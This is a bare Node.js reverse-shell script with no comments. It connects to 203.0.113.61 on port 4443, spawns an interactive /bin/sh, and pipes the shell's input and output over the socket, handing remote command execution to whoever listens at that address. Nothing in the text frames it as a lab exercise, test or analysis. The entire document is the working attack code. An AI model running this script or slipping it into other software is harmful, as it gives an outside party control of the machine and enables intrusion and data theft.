const net = require('net');
const { spawn } = require('child_process');

const sock = net.connect(4443, '203.0.113.61', () => {
  const sh = spawn('/bin/sh', ['-i']);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
});
sock.on('error', () => setTimeout(() => process.exit(1), 1000));
